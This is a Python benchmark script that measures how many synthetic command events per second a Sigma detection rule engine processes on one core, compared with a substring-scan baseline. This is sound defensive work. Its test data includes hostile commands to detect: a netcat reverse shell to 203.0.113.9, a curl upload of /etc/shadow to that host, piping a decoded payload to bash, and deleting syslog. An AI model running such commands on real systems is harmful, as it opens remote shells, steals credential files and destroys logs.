"""Events per second through every rule of the Sigma corpus, on one core.

An event is one command as the alert group reports it (CommandLine, Image,
ParentImage, User): everyday commands and a few that rules fire on, 1 in 10.
Baseline, measured in the same run over the same events: a plain scan of each
event's command line for every needle the rules' ``|contains`` hold, i.e. the
least any engine must do. Target from issue 30: >= 1,000 events/s with all
rules on one core.

    python -m bench.sigma_rules [--events N] [--repeat R] [--rules FOLDER]
"""

from __future__ import annotations

import argparse
import os
import random
import re
import shlex
import time
from collections.abc import Callable
from pathlib import Path

from sshtrail.sigmarules import load_rules

CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "sigma" / "rules"

EVERYDAY = [
    "ls -la /var/log", "git status", "vim /etc/nginx/nginx.conf", "systemctl status nginx",
    "grep -r TODO src/", "ps aux", "df -h", "tail -f /var/log/syslog", "docker ps -a",
    "python3 manage.py migrate", "make -j4", "ssh db-1", "tar xzf release-2.4.1.tgz",
    "kubectl -n prod get pods -o wide", "journalctl -u app --since '1 hour ago' | less",
]  # fmt: skip
SUSPICIOUS = [
    "nc 203.0.113.9 4444 -e /bin/bash", "chmod 777 /tmp/payload", "rm -f /var/log/syslog",
    "curl -F f=@/etc/shadow https://203.0.113.9/up", "base64 -d payload.b64 | bash",
]  # fmt: skip


def events(count: int, rng: random.Random) -> list[dict[str, str]]:
    made = []
    for n in range(count):
        command = rng.choice(SUSPICIOUS if n % 10 == 0 else EVERYDAY)
        made.append(
            {
                "CommandLine": command,
                "Image": f"/usr/bin/{shlex.split(command)[0]}",
                "ParentImage": "/bin/bash",
                "User": "deploy",
            }
        )
    return made


def needles(folder: Path) -> list[str]:
    """Every quoted ``|contains`` value of the corpus, lower-cased."""
    found: list[str] = []
    for path in sorted(folder.glob("*.yml")):
        in_contains = False
        for line in path.read_text().splitlines():
            if "|contains" in line:
                in_contains = True
                value = line.split(":", 1)[1].strip()
                if value:
                    found.append(value.strip("'\""))
                    in_contains = False
            elif in_contains and line.strip().startswith("- "):
                found.append(line.strip()[2:].split(" #")[0].strip().strip("'\""))
            else:
                in_contains = False
    return [needle.lower() for needle in found if needle and not re.search(r"[*?]", needle)]


def best_rate(work: Callable[[], int], repeat: int) -> float:
    """Items per second of the fastest of ``repeat`` runs (the least disturbed one)."""
    best = 0.0
    for _ in range(repeat):
        started = time.perf_counter()
        items = work()
        best = max(best, items / (time.perf_counter() - started))
    return best


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=20_000)
    parser.add_argument("--repeat", type=int, default=5)
    parser.add_argument("--rules", type=Path, default=CORPUS)
    args = parser.parse_args()
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # one core, as the target says
    started = time.perf_counter()
    rules = load_rules(args.rules)
    loading = time.perf_counter() - started
    sample = events(args.events, random.Random(30))
    scan = needles(args.rules)

    def engine() -> int:
        for one in sample:
            rules.match(one)
        return len(sample)

    def baseline() -> int:
        for one in sample:
            line = one["CommandLine"].lower()
            for needle in scan:
                if needle in line:
                    break
        return len(sample)

    engine_rate = best_rate(engine, args.repeat)
    baseline_rate = best_rate(baseline, args.repeat)
    alerts = sum(len(rules.match(one)) for one in sample)
    active = f"{len(rules.rules)} active of {len(rules.statuses)} files"
    print(f"rules: {active}, loaded in {loading:.2f} s")
    print(f"events: {len(sample)}, alerts raised: {alerts}")
    print(f"engine, all rules:          {engine_rate:12,.0f} events/s")
    print(f"baseline, substring scan:   {baseline_rate:12,.0f} events/s ({len(scan)} needles)")
    print(f"ratio engine/baseline:      {engine_rate / baseline_rate:12.2f}")
    print(f"target >= 1,000 events/s:   {'met' if engine_rate >= 1000 else 'MISSED'}")


if __name__ == "__main__":
    main()
